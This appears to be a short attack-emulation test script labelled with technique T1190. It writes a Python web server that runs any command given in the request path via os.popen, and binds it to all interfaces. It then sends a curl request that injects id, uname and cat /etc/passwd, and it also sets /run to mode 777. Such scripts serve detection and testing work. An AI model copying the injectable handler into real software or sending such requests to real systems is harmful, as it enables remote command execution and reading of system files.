# title: A web application runs what a request says
# technique: T1190
# needs: python3 curl
# short: yes

cat >/var/www/app.py <<'END'
import http.server, os, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        said = os.popen(urllib.parse.unquote(self.path[4:])).read()
        self.send_response(200); self.end_headers(); self.wfile.write(said.encode())
server = http.server.HTTPServer(("0.0.0.0", 8088), Handler)
open("/run/listening", "w").close()
server.handle_request()
END
chmod 777 /run
setpriv --reuid 33 --regid 33 --clear-groups python3 /var/www/app.py &
while [ ! -e /run/listening ]; do sleep 0.05; done
curl -s 'http://127.0.0.1:8088/?c=id;uname%20-a;cat%20/etc/passwd'
wait
